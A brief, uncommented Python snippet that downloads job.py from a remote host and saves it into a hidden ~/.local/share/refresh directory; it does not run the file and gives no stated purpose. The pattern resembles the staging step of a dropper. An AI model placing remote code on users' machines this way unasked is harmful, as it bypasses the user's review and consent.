import pathlib, requests
dst = pathlib.Path.home() / ".local/share/refresh/job.py"
dst.parent.mkdir(parents=True, exist_ok=True)
dst.write_text(requests.get("https://refresh.example-data.net/job.py").text)
